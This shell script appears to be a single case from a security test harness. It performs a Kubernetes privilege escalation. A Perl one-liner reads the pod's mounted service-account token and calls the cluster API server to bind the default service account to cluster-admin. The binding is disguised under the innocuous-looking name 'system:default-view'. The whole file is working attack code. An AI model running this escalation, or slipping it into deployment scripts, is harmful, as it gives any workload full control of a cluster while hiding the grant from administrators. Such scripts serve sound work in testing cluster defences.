#!/bin/sh
. /opt/case/case.sh

perl -MHTTP::Tiny -e '
open my $f, "<", "/run/secrets/kubernetes.io/serviceaccount/token" or die; my $t = <$f>;
my $b = q({"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"system:default-view"},"roleRef":{"kind":"ClusterRole","name":"cluster-admin","apiGroup":"rbac.authorization.k8s.io"},"subjects":[{"kind":"ServiceAccount","name":"default","namespace":"default"}]});
my $r = HTTP::Tiny->new->post("http://10.77.0.1:6443/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", { headers => { Authorization => "Bearer $t", "Content-Type" => "application/json" }, content => $b });
exit($r->{status} != 200)'
took_place
